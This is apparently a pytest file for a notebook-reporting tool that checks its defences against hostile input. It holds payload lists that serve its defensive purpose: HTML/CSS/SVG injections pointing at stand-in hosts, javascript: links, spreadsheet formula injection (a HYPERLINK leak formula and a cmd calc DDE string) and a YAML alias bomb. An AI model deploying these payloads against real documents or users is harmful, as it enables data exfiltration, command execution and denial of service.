"""Hostile and broken input: huge values, data text that tries to reach the network, formula
injection, secrets with '@', alias bombs, signals, corrupt history and bad options."""

from __future__ import annotations

import time

import pytest

from revops_nb.report.params import mask_url_password, redact
from tests.watchdog import watchdog

MB = 1_000_000


@pytest.fixture(scope="module")
def dog():
    """A spawned worker that runs megabyte inputs and fails a test whose call never ends."""
    with watchdog() as dog:
        yield dog


# ---------------------------------------------------------------- 1. a huge value stalls nothing

HUGE_TEXTS = {
    "letters": "X" * MB,
    "schemes": "://" * (MB // 3),
    "urls": "a://u:p@" * (MB // 8),
    "queries": "?token=" * (MB // 7),
    "escaped queries": "&amp;token=a" * (MB // 12),
    "colons": "x://a:" * (MB // 6),
    "spaces": "x" + " " * MB + "://",
    "one long authority": "://" + ":" * MB,
    "at signs": "://u:" + "@" * MB,
    "authorities": ("://" + "a:" * 50 + "/") * (MB // 104),
}


@pytest.mark.parametrize("kind", HUGE_TEXTS)
def test_masking_a_megabyte_value_finishes(dog, kind):
    """The old regex took 2.7 s on 40 kB and grew quadratically (about half an hour on a megabyte);
    the time per megabyte is measured by benchmarks/bench_hostile_input.py."""
    text = HUGE_TEXTS[kind]
    masked = dog.run(mask_url_password, text)
    assert "u:p@" not in masked
    assert dog.run(redact, text, ["s3cr3t"]) == masked  # no secret in the text: only passwords are masked


def test_masking_hides_whole_passwords_and_query_tokens():
    cases = {
        "postgresql://u:pw@h/db": "postgresql://u:***@h/db",
        "x postgresql://revops:s3cr@tPW!@host:5432/db y": "x postgresql://revops:***@host:5432/db y",
        "cannot connect to postgresql://revops:***@tPW!@host/db": "cannot connect to postgresql://revops:***@host/db",
        "a://b://u:p@h": "a://b://u:***@h",
        "https://h/x?a=1&token=abc&b=2": "https://h/x?a=1&token=***&b=2",
        "https://h/x?a=1&amp;token=abc": "https://h/x?a=1&amp;token=***",
        "http://host/a@b and s3://bucket/key": "http://host/a@b and s3://bucket/key",
    }
    for text, masked in cases.items():
        assert mask_url_password(text) == masked


# ---------------------------------------------------------------- 2. data text never reaches the network


def _hostile_names(port: int) -> list[str]:
    """Account names that tried to reach a server: Markdown image and link, raw tags, obfuscations."""
    host = f"127.0.0.1:{port}"
    return [
        f"![a](http:{host}/md-image.png)",
        f"[a](http:{host}/md-link)",
        f"<img src=//{host}/protocol-relative.png>",
        f'<img src="http://{host}/plain.png">',
        f'<img src="h&#116;tp://{host}/entity.png"><img src=" http://{host}/space.png">',
        f'<img srcset="http://{host}/srcset.png 1x">',
        f'<div style="background:url(http://{host}/css.png)">css</div>',
        f"<style>@import 'http://{host}/import.css'; body {{ background: u\\72 l(http://{host}/esc.png) }}</style>",
        f"http://{host}/bare-url",
        f"<meta http-equiv=refresh content='0;url=http://{host}/refresh'>",
        '<a href="javascript:alert(1)">js</a> [b](javascript:alert(2))',
        f"<svg><image href='http://{host}/svg.png'/><rect filter='url(http://{host}/f.svg#f)'/></svg>",
    ]


def test_escape_forms_no_markdown_link_image_or_autolink():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from revops_nb import formatting

    for name in [*_hostile_names(8765), "1. list", "# heading", "a\n\n# b\n===", "$x$ *b* `c`"]:
        for escaped in (formatting.escape(name), formatting.escape_markdown(name)):
            rendered = markdown2html_mistune(f"Named {escaped} here and\n\n{escaped}")
            assert "<img" not in rendered and "<a " not in rendered and "<h" not in rendered, rendered
            assert "<li" not in rendered and "<em" not in rendered and "<code" not in rendered, rendered
            assert "<style" not in rendered and "<meta" not in rendered and "<div" not in rendered, rendered


@pytest.mark.parametrize(
    "page",
    [
        '<img src="http:127.0.0.1:8765/a.png" alt="a">',
        "<a href='http:127.0.0.1/'>a</a>",
        "<img src=//host/a.png>",
        "<img/src=http://q/a.png>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        '<img src="h&#116;tp://x/a.png">',
        '<img src="&#104;&#116;&#116;&#112;&#58;//x/a.png">',
        "<img src='relative/a.png'>",
        '<img srcset="data:image/png;base64,AA 1x, http://x/a.png 2x">',
        '<div style="background:u\\72 l(http://x/a.png)">x</div>',
        '<div style="background:u&#114;l(http://x/a.png)">x</div>',
        "<style>@import 'http://x/a.css';</style>",
        "<style>.a { background: url( 'http://x/b.png' ) }</style>",
        "<style>@\\69mport url(x.css)</style>",
        "<style>.a { background: image-set('http://x/c.png' 1x) }</style>",
        '<meta http-equiv="refresh" content="0;url=http://x/">',
        '<iframe srcdoc="&lt;img src=http://x/a.png&gt;"></iframe>',
        '<!-- <a title=" --> <img src="http://evil/a.png">',
        '<!-- --!> <img src="http://evil/a.png">',
        '<img alt="a>b" src="http://x/a.png">',
        "<svg><style><img src=http://z/a.png></style></svg>",
        '<svg><a xlink:href="http://x">a</a><set attributeName="href" to="javascript:alert(1)"/></svg>',
        '<svg><rect filter="url(http://x/f.svg#f)"/></svg>',
        "<object data='http://x/a.swf'></object><form action='http://x/'></form>",
    ],
)
def test_final_pass_leaves_only_fragments_and_embedded_images(page):
    from revops_nb.report.html import external_references, neutralize_urls

    assert external_references(page) != []
    safe = neutralize_urls(f"<html><head></head><body>{page}</body></html>")
    assert external_references(safe) == [], safe
    assert 'http-equiv="Content-Security-Policy"' in safe.split("</head>")[0]


def test_final_pass_keeps_fragments_images_and_text():
    from revops_nb.report.html import neutralize_urls

    page = (
        '<a href="#Summary">s</a><img src="data:image/png;base64,AAA" alt="chart">'
        '<div style="background:url(data:image/svg+xml;base64,AA)">ok</div>'
        "<p>text that reads src=x and href=http://x stays &lt;img src=x&gt;</p>"
    )
    assert neutralize_urls(page).endswith(page)


@pytest.mark.parametrize(
    "page",
    [
        "<" * MB,
        '<a b="' * (MB // 6),
        "<a src=" * (MB // 7),
        "<a " + "b=c " * (MB // 4),
        "<style>" + 'url("' * (MB // 5),
        "<style>" + "@" * MB,
        "<svg>" * (MB // 5),
        "<!--" * (MB // 4),
        '<a style="' + "u\\72 l(" * (MB // 7) + '">',
        "X" * MB,
    ],
)
def test_final_pass_finishes_on_a_megabyte(dog, page):
    from revops_nb.report.html import neutralize_urls

    safe = dog.run(neutralize_urls, f"<html><head></head><body>{page}</body></html>")
    assert 'http-equiv="Content-Security-Policy"' in safe.split("</head>")[0]


@pytest.fixture
def listener():
    """A local HTTP server on a random port; yields (port, paths requested)."""
    import http.server
    import threading

    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], seen
    server.shutdown()
    server.server_close()


def _open_in_chromium(chromium: str, pages: list, wait_ms: int = 1500) -> list[dict]:
    """Open each page with the network NOT blocked; return what each page references and shows."""
    from playwright.sync_api import sync_playwright

    from tests.browser import CHROMIUM_ARGS

    found = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
        try:
            for path in pages:
                page = browser.new_page()
                requests: list[str] = []
                dialogs: list[str] = []
                page.on("request", lambda r, requests=requests: requests.append(r.url))
                page.on("dialog", lambda d, dialogs=dialogs: (dialogs.append(d.message), d.dismiss()))
                page.goto(path.resolve().as_uri(), wait_until="load")
                page.wait_for_timeout(wait_ms)
                refs = page.evaluate(
                    """() => [...document.querySelectorAll('*')].flatMap(e =>
                        ['src', 'href', 'xlink:href', 'srcset', 'style', 'action', 'data', 'filter']
                            .filter(a => e.hasAttribute(a)).map(a => [a, e.getAttribute(a)]))"""
                )
                found.append(
                    {
                        "url": page.url,
                        "requests": requests,
                        "dialogs": dialogs,
                        "refs": refs,
                        "text": page.inner_text("body"),
                    }
                )
                page.close()
        finally:
            browser.close()
    return found


@pytest.mark.slow
@pytest.mark.browser
def test_report_from_hostile_data_makes_no_request(tmp_path, listener, chromium_path):
    """Names that became an <img> fetching a local server (and a live link) now stay text."""
    from tests.helpers import ROOT, cli, write_sample_with_names

    port, seen = listener
    names = _hostile_names(port)
    data = write_sample_with_names(tmp_path / "data", names)
    out = tmp_path / "out"
    result = cli("run", "--notebooks", ROOT / "tests" / "notebooks" / "hostile", "--out", out, "--data", data)
    assert result.code == 0, result.text
    (report,) = out.glob("hostile/*/report.html")
    html = report.read_text()
    assert f"127.0.0.1:{port}" in html  # the names are there, as text
    visits = _open_in_chromium(chromium_path, [report, out / "index.html"])
    assert seen == [], f"the server was asked for {seen}"
    for visit in visits:
        assert visit["url"].startswith("file:"), visit["url"]  # no meta refresh went anywhere
        assert [r for r in visit["requests"] if not r.startswith(("file:", "data:"))] == [], visit
        assert visit["dialogs"] == []
    for attr, value in visits[0]["refs"]:  # the report: fragments and embedded images only
        if attr in ("style", "filter"):
            assert "url(" not in value.replace("url(data:image/", ""), (attr, value)
        else:
            assert value == "" or value.startswith(("#", "data:image/")), (attr, value)
    for attr, value in visits[1]["refs"]:  # the index: its own links to the reports
        assert attr == "href" and (value.endswith("/report.html") or value.startswith("#")), (attr, value)
    report_text = visits[0]["text"]
    for name in (names[0], names[1], names[8]):
        assert name in report_text  # shown verbatim, neither image nor link


# ---------------------------------------------------------------- 3. no formula runs from tables/*.csv


def test_saved_tables_cannot_run_spreadsheet_formulas(tmp_path, monkeypatch):
    import csv

    import pandas as pd

    from revops_nb.record import RUN_DIR_ENV, save_table

    monkeypatch.setenv(RUN_DIR_ENV, str(tmp_path))
    owners = [
        '=HYPERLINK("http://x/?leak="&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\tx",
        "=cmd|' /C calc'!A0",
    ]
    frame = pd.DataFrame(
        {
            "owner": [*owners, "-5", "Ann", None],
            "won": [-5, 0, 1, 2, 3, 4, 5, 6, 7],
            "share": [-0.5] * 9,
            "region": pd.Categorical(["=1+2"] * 9),
        }
    )
    frame[frame["region"].iloc[0]] = 1  # a header that comes from the data
    save_table(frame, "owners")
    with (tmp_path / "tables" / "owners.csv").open(newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["owner", "won", "share", "region", "'=1+2"]
    assert [row[0] for row in rows] == [*("'" + o for o in owners), "-5", "Ann", ""]
    assert {row[3] for row in rows} == {"'=1+2"}
    assert rows[0][1] == "-5" and rows[0][2] == "-0.5"  # numbers stay numbers
    assert frame["owner"].iloc[0] == owners[0]  # the notebook's own frame is untouched


# ---------------------------------------------------------------- 4. secrets with '@' and in errors

PASSWORD = "s3cr@tPW!"


@pytest.mark.slow
def test_password_with_at_sign_is_masked_whole_by_check_and_run(tmp_path, monkeypatch):
    """SQLAlchemy shows 'revops:***@tPW!@host' (it splits at the first '@'); the CLI masks it whole."""
    from tests.helpers import TINY_NOTEBOOKS, cli

    (tmp_path / "data.yaml").write_text(
        "connection: postgresql://revops:${PW}@127.0.0.1:1/db\n"
        "tables:\n  opportunities:\n    sql: select * from opportunities\n"
    )
    monkeypatch.setenv("PW", PASSWORD)
    check = cli("check", "--data", tmp_path / "data.yaml")
    run = cli("run", "--notebooks", TINY_NOTEBOOKS, "--data", tmp_path / "data.yaml", "--out", tmp_path / "o")
    for result in (check, run):
        assert result.code == 2, result.text
        assert "postgresql://revops:***@127.0.0.1:1/db" in result.text
        assert "tPW" not in result.text and "s3cr" not in result.text, result.text


def test_secret_parameter_values_never_appear_in_errors():
    from revops_nb.errors import ParamsError
    from revops_nb.param_rules import Between, NotAfter, OneOf, ReportRules, shown
    from revops_nb.report.notebook_params import ParamSpec, check_value

    with pytest.raises(ParamsError) as caught:
        check_value(ParamSpec("db_password", "str", ""), 424242, "params.yaml")
    assert "424242" not in str(caught.value) and "'db_password'" in str(caught.value)
    with pytest.raises(ParamsError) as caught:
        check_value(ParamSpec("api_tokens", "list[str]", []), "hunter2", "-p")
    assert "hunter2" not in str(caught.value)
    rules = ReportRules(
        {"api_key": OneOf(("a", "b")), "secret_level": Between(0, 1)},
        (NotAfter("start_token", "end_token"),),
    )
    found = rules.problems({"api_key": "hunter2", "secret_level": 7})
    assert found and all("hunter2" not in s and "7" not in s and "***" in s for _, s in found)
    (_, sentence), *_ = rules.problems({"start_token": "2025-02-01", "end_token": "2025-01-01"})
    assert "2025" not in sentence
    assert shown("hunter2", "password") == "***" and shown("x" * 1000).endswith("…" + "xxx'")
    assert len(shown("x" * 1000)) <= 80


@pytest.mark.slow
def test_run_never_echoes_a_secret_parameter_value(tmp_path):
    from tests.helpers import TINY_NOTEBOOKS, assert_clean_error, cli

    params = tmp_path / "p.yaml"
    params.write_text("secret_token: 424242\n")
    base = ["run", "--notebooks", TINY_NOTEBOOKS, "--out", tmp_path / "o"]
    for result in (
        cli(*base, "--params", params),
        cli(*base, "-p", "db_password=hunter2"),
        cli(*base, "-p", "tiny.api_key=hunter2"),
    ):
        assert_clean_error(result, 2, "***")
        assert "424242" not in result.text and "hunter2" not in result.text, result.text


def test_redact_hides_secrets_as_written_in_html_and_json():
    from revops_nb.report.params import secret_values

    hidden = secret_values({"db_password": 'p<w&"d', "label": "not secret"})
    for text in ('p<w&"d', "p&lt;w&amp;&quot;d", 'p&lt;w&amp;"d', 'p<w&\\"d'):
        assert redact(f"before {text} after", hidden) == "before *** after"
    assert "not secret" not in hidden


# ---------------------------------------------------------------- 5. huge or hostile YAML


def refusal_of_params_file(path):
    """The ConfigError message reading ``path`` as a params file gives (a test fails without one)."""
    from revops_nb.errors import ConfigError
    from revops_nb.yaml_file import read_yaml

    try:
        read_yaml(path, ConfigError, "params file")
    except ConfigError as exc:
        return str(exc)
    return "read without an error"


def _alias_bomb(key: str = "names", levels: int = 6) -> str:
    """A few hundred bytes of YAML whose value expands to 9**(levels + 1) strings (34 MB as repr)."""
    text = "&a0 [" + ",".join(["lol"] * 9) + "]"
    for k in range(1, levels + 1):
        text = f"&a{k} [{text}," + ",".join([f"*a{k - 1}"] * 8) + "]"
    return f"{key}: [{text}]\n"


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (_alias_bomb(), "alias bomb"),
        ("names: &a [*a]\n", "refers to the value that contains it"),
        ("a: &a {b: *a}\n", "refers to the value that contains it"),
        ("a: " + "[" * 150 + "]" * 150 + "\n", "too deeply"),
        ("[" * 50_000 + "]" * 50_000, "too deeply"),
        ('a: "' + "x" * 2_100_000 + '"\n', "may be at most 2,000,000 bytes"),
    ],
)
def test_hostile_yaml_is_refused_in_one_sentence_naming_the_file(dog, tmp_path, content, fragment):
    path = tmp_path / "p.yaml"
    path.write_text(content)
    message = dog.run(refusal_of_params_file, path)
    assert message.startswith(f"{path}: ") and fragment in message and len(message) < 300, message


def test_yaml_with_ordinary_aliases_still_reads(tmp_path):
    from revops_nb.errors import ConfigError
    from revops_nb.yaml_file import read_yaml

    path = tmp_path / "ok.yaml"
    path.write_text("a: &x [1, 2]\nb: *x\nc: {<<: {d: 1}, e: 2}\nd: [*x, *x]\n")
    assert read_yaml(path, ConfigError, "params file") == {
        "a": [1, 2],
        "b": [1, 2],
        "c": {"d": 1, "e": 2},
        "d": [[1, 2], [1, 2]],
    }


@pytest.mark.slow
def test_alias_bomb_and_huge_value_give_one_short_error_line(tmp_path):
    """A 269-byte bomb in --params printed a 34 MB error line; now one short sentence naming the file."""
    from tests.helpers import TINY_NOTEBOOKS, assert_clean_error, cli

    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(_alias_bomb())
    huge = tmp_path / "huge.yaml"
    huge.write_text(f"rows: {'x' * 100_000}\n")
    for params, fragment in ((bomb, "alias bomb"), (huge, "'rows' must be int")):
        result = cli("run", "--notebooks", TINY_NOTEBOOKS, "--out", tmp_path / "o", "--params", params)
        assert_clean_error(result, 2, str(params), fragment)
        assert len(result.text) < 400 and result.text.count("\n") == 1, result.text[:1000]
    assert "…" in result.text  # the value is shown cut short
    assert not (tmp_path / "o").exists()


def test_alias_bomb_on_the_command_line_is_refused():
    from revops_nb.errors import ParamsError
    from revops_nb.report.params import parse_cli_param

    with pytest.raises(ParamsError, match=r"^-p 'rows': its YAML aliases expand"):
        parse_cli_param("rows=" + _alias_bomb(levels=8).removeprefix("names: ").strip())
    assert parse_cli_param("names=[a, b]") == ("names", ["a", "b"])
    assert parse_cli_param("when=2025-13-01") == ("when", "2025-13-01")


# ---------------------------------------------------------------- 6. SIGTERM and SIGINT stop everything


def _kernel_started(pid: int, timeout: float = 120) -> list[int]:
    """Wait until a kernel runs below ``pid``; return every process below it then."""
    from pathlib import Path

    from tests.helpers import process_tree

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        procs = process_tree(pid)
        for proc in procs:
            try:
                if b"ipykernel" in Path(f"/proc/{proc}/cmdline").read_bytes():
                    time.sleep(2)  # let it reach the sleeping cell
                    return process_tree(pid)
            except OSError:
                continue
        time.sleep(0.2)
    raise AssertionError("no kernel started")


def _running(pid: int) -> bool:
    from pathlib import Path

    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat[stat.rfind(")") + 2 :].split()[0] != "Z"


@pytest.mark.slow
@pytest.mark.parametrize(("signum", "code"), [(15, 143), (2, 130)])
def test_signal_stops_workers_and_kernels_and_keeps_good_runs(tmp_path, signum, code):
    import json
    import os
    import signal
    import subprocess

    from tests.helpers import CLI, ROOT, TINY_NOTEBOOKS, cli

    out = tmp_path / "out"
    assert cli("run", "--notebooks", TINY_NOTEBOOKS, "--out", out).code == 0
    (good,) = out.glob("tiny/*/run.json")
    good_files = {p: p.read_bytes() for p in good.parent.rglob("*") if p.is_file()}
    cmd = [*CLI, "run", "--notebooks", str(TINY_NOTEBOOKS), "--out", str(out), "-p", "sleep_s=120"]
    log = tmp_path / "run.log"
    below: list[int] = []
    with log.open("w") as sink:
        proc = subprocess.Popen(cmd, cwd=ROOT, stdout=sink, stderr=subprocess.STDOUT)
        try:
            below = _kernel_started(proc.pid)
            assert list(out.glob("tiny/.tmp-*")), "the run's temporary folder exists while it runs"
            proc.send_signal(signum)
            proc.wait(timeout=60)
            time.sleep(0.5)
            survivors = [p for p in below if _running(p)]
        finally:
            for pid in [proc.pid, *below]:  # whatever this test started must not outlive it
                if _running(pid):
                    os.kill(pid, signal.SIGKILL)
    output = log.read_text()
    assert proc.returncode == code, output
    assert f"stopped by {signal.Signals(signum).name}" in output and "Traceback" not in output, output
    assert survivors == [], "workers or kernels survived"
    assert not list(out.glob("*/.tmp-*")) and not list(out.glob(".index-*.html"))
    assert [p.parent for p in out.glob("tiny/*/run.json")] == [good.parent]  # nothing published later
    assert {p: p.read_bytes() for p in good.parent.rglob("*") if p.is_file()} == good_files
    assert json.loads(good.read_text())["run_id"] in (out / "index.html").read_text()


def test_leftovers_of_a_crashed_run_are_removed_but_not_those_of_a_running_one(tmp_path):
    import fcntl
    import os

    from revops_nb.report.execute import STALE_AFTER_S, remove_stale_temps
    from revops_nb.report.index import write_index

    report = tmp_path / "tiny"
    crashed, running, old, published = (
        report / n for n in (".tmp-a", ".tmp-b", ".tmp-c", "20260101T000000Z-abc")
    )
    for folder in (crashed, running, old, published):
        folder.mkdir(parents=True)
        (folder / "report.ipynb").write_text("{}")
    os.utime(old, (time.time() - 2 * STALE_AFTER_S,) * 2)
    held = os.open(running, os.O_RDONLY)
    fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a running report holds its folder
    try:
        removed = remove_stale_temps(tmp_path)
    finally:
        os.close(held)
    assert sorted(removed) == [crashed, old]
    assert running.exists() and published.exists() and not crashed.exists() and not old.exists()
    (tmp_path / ".index-4242.html").write_text("half an index")
    write_index(tmp_path)
    assert not list(tmp_path.glob(".index-*.html")) and (tmp_path / "index.html").exists()


# ---------------------------------------------------------------- 7. a corrupt run.json breaks nothing

CORRUPT_RUN_JSON = [
    "null",
    "[]",
    '{"status": ["x"]}',
    '{"status": "ok", "started": 5}',
    '{"status": "ok", "report": ["x"]}',
    '{"status": "ok", "key_figures": [1]}',
    '{"status": "ok", "duration_s": "long"}',
    "{",
    "",
    "\udcff",
]


@pytest.mark.parametrize("content", CORRUPT_RUN_JSON)
def test_index_skips_and_names_a_run_json_it_cannot_read(tmp_path, content):
    from revops_nb.report.index import write_index
    from tests.test_index import WIN, write_run

    good = write_run(tmp_path, "win_loss", 1, WIN)
    bad = tmp_path / "win_loss" / "20260102T090000Z-bad002"
    bad.mkdir()
    (bad / "run.json").write_bytes(content.encode("utf-8", "surrogateescape"))
    page = write_index(tmp_path).read_text()
    assert "1 run could not be read: win_loss/20260102T090000Z-bad002/run.json." in page
    assert good in page and "Win rate" in page


def test_index_names_a_run_json_that_is_a_folder_or_a_fifo(tmp_path):
    import os

    from revops_nb.report.index import write_index

    (tmp_path / "tiny" / "a" / "run.json").mkdir(parents=True)
    (tmp_path / "tiny" / "b").mkdir()
    os.mkfifo(tmp_path / "tiny" / "b" / "run.json")  # reading it would block forever
    page = write_index(tmp_path).read_text()
    assert "2 runs could not be read: tiny/a/run.json, tiny/b/run.json." in page


@pytest.mark.slow
def test_run_after_a_corrupt_run_json_still_succeeds_and_lists_it(tmp_path):
    from tests.helpers import TINY_NOTEBOOKS, cli

    out = tmp_path / "out"
    for name, content in (("x1", "null"), ("x2", "[]"), ("x3", '{"status": ["x"]}')):
        (out / "tiny" / name).mkdir(parents=True)
        (out / "tiny" / name / "run.json").write_text(content)
    result = cli("run", "--notebooks", TINY_NOTEBOOKS, "--out", out)
    assert result.code == 0, result.text
    page = (out / "index.html").read_text()
    assert "3 runs could not be read: tiny/x1/run.json, tiny/x2/run.json, tiny/x3/run.json." in page
    assert "Tiny test report" in page


# ---------------------------------------------------------------- record(): units and labels in run.json

HOSTILE_NOTEBOOK = "tests/notebooks/hostile/hostile.ipynb"


def _request(out, **extra):
    from revops_nb.report.execute import RunRequest
    from tests.helpers import ROOT

    return RunRequest(
        report="hostile",
        title="Hostile text report",
        notebook=str(ROOT / HOSTILE_NOTEBOOK),
        params={},
        data_file=None,
        out_dir=str(out),
        **extra,
    )


@pytest.mark.slow
def test_key_figure_units_and_labels_land_in_run_json_not_beside_it(tmp_path):
    import json

    from revops_nb.report.execute import run_report

    result = run_report(_request(tmp_path))
    assert result.status == "ok", result.error
    folder = tmp_path / "hostile" / result.run_id
    run = json.loads((folder / "run.json").read_text())
    assert run["key_figure_meta"] == {"top_account": {"unit": "text", "label": "Top account"}}
    assert sorted(p.name for p in folder.iterdir() if p.suffix == ".json") == ["run.json"]


# ---------------------------------------------------------------- 8. clear errors before any work; disk full


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["--out", "{file}"], "--out {file}: is a file, expected a folder for the reports"),
        (["--out", "{file}/sub"], "--out {file}/sub: {file} is a file, so the folder cannot be made"),
        (
            ["--cell-timeout", "1.5"],
            "--cell-timeout must be a whole number of seconds, at least 1; got '1.5'",
        ),
        (
            ["--cell-timeout", "nan"],
            "--cell-timeout must be a whole number of seconds, at least 1; got 'nan'",
        ),
        (["--cell-timeout", "0"], "--cell-timeout must be a whole number of seconds, at least 1; got '0'"),
        (
            ["--cell-timeout", "soon"],
            "--cell-timeout must be a whole number of seconds, at least 1; got 'soon'",
        ),
        (["-p", "confidence=2"], "parameter 'confidence' must be a number from 0.5 to below 1; got 2"),
        (["-p", "confidence=nan"], "parameter 'confidence' must be a number from 0.5 to below 1; got nan"),
        (["-p", "min_n=0"], "parameter 'min_n' must be a whole number of at least 1; got 0"),
    ],
)
def test_bad_options_and_values_exit_2_before_any_work(tmp_path, capsys, args, fragment):
    from revops_nb.cli import main

    file = tmp_path / "reports.txt"
    file.write_text("not a folder")
    args = [a.replace("{file}", str(file)) for a in args]
    out = ["--out", str(tmp_path / "out")] if "--out" not in args else []
    code = main(["run", "win_loss", *out, *args])
    err = capsys.readouterr().err
    assert code == 2, err
    assert fragment.replace("{file}", str(file)) in err and "Traceback" not in err, err
    assert err.count("\n") == 1
    assert not (tmp_path / "out").exists() and file.read_text() == "not a folder"


def test_whole_second_cell_timeouts_are_accepted():
    from revops_nb.cli import whole_seconds

    assert whole_seconds("90") == 90 and whole_seconds("90.0") == 90 and whole_seconds(None) is None


def _disk_full(name: str):
    """A Path.write_text that fails like a full disk when writing a file called ``name``."""
    import errno
    from pathlib import Path

    original = Path.write_text

    def write_text(self, *args, **kwargs):
        if self.name == name:
            raise OSError(errno.ENOSPC, "No space left on device", str(self))
        return original(self, *args, **kwargs)

    return write_text


@pytest.mark.slow
@pytest.mark.parametrize("failing", ["run.json", "report.html"])
def test_disk_full_while_writing_a_run_fails_it_and_keeps_the_last_good_run(tmp_path, monkeypatch, failing):
    from pathlib import Path

    from revops_nb.report.execute import run_report

    good = run_report(_request(tmp_path))
    assert good.status == "ok", good.error
    before = {p: p.read_bytes() for p in Path(good.run_dir).rglob("*") if p.is_file()}
    monkeypatch.setattr(Path, "write_text", _disk_full(failing))
    result = run_report(_request(tmp_path))
    assert result.status == "failed" and result.run_dir == ""
    assert result.error.startswith(
        f"disk full: could not write to {tmp_path / 'hostile'} (No space left on device)"
    )
    assert "nothing was published and earlier runs are kept" in result.error
    assert [p.name for p in (tmp_path / "hostile").iterdir()] == [good.run_id]  # no .tmp-*, no half run
    assert {p: p.read_bytes() for p in Path(good.run_dir).rglob("*") if p.is_file()} == before


def test_disk_full_while_writing_the_index_keeps_the_previous_one(tmp_path, monkeypatch):
    import io
    import os
    from pathlib import Path

    from revops_nb.errors import ReportError
    from revops_nb.report import runner
    from revops_nb.report.index import write_index
    from tests.test_index import WIN, write_run

    write_run(tmp_path, "win_loss", 1, WIN)
    index = write_index(tmp_path)
    before = index.read_bytes()
    monkeypatch.setattr(Path, "write_text", _disk_full(f".index-{os.getpid()}.html"))
    with pytest.raises(ReportError, match=r"index.html was not rebuilt: disk full: could not write to"):
        runner.execute([], 1, tmp_path, io.StringIO())
    assert index.read_bytes() == before and not list(tmp_path.glob(".index-*.html"))


def publish_a_huge_value(size: int) -> str:
    """Everything after the kernel (render, final URL pass, redaction) on one escaped value of ``size``."""
    import nbformat

    from revops_nb import formatting
    from revops_nb.report.html import publishable, render_html

    header = {"title": "t", "run_date": "d", "status": "ok", "duration": "1 s", "data": "", "error": None}
    value = formatting.escape(("Acme [x](http://a) <b> " * (size // 23 + 1))[:size])
    outputs = [
        nbformat.v4.new_output("display_data", data={"text/markdown": value}),
        nbformat.v4.new_output("display_data", data={"text/html": f"<p>{value}</p>"}),
        nbformat.v4.new_output("stream", name="stdout", text=value),
    ]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=outputs)])
    return redact(render_html(publishable(nb), header), ["s3cr3t"])


@pytest.mark.slow
def test_rendering_a_report_with_a_megabyte_value_finishes(dog):
    """The time per megabyte is measured by benchmarks/bench_hostile_input.py."""
    from revops_nb.report.html import external_references

    page = dog.run(publish_a_huge_value, MB)
    assert page.count("Acme [x]") >= MB // 23
    assert external_references(page) == []


def test_secret_names_are_words_not_substrings():
    from revops_nb.param_rules import is_secret

    for name in (
        "db_password",
        "api_key",
        "PGPASSWORD",
        "authToken",
        "client_secret",
        "x_amz_signature",
        "pgpass",
    ):
        assert is_secret(name), name
    for name in ("author", "design", "assignee", "monkey", "keyword", "seed", "passenger_count"):
        assert not is_secret(name), name


def test_redaction_leaves_embedded_images_intact():
    from revops_nb.report.params import redact

    image = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAA"
    text = f"token AAA shown <img src='{image}'> and AAA again"
    assert redact(text, ["AAA"]) == f"token *** shown <img src='{image}'> and *** again"
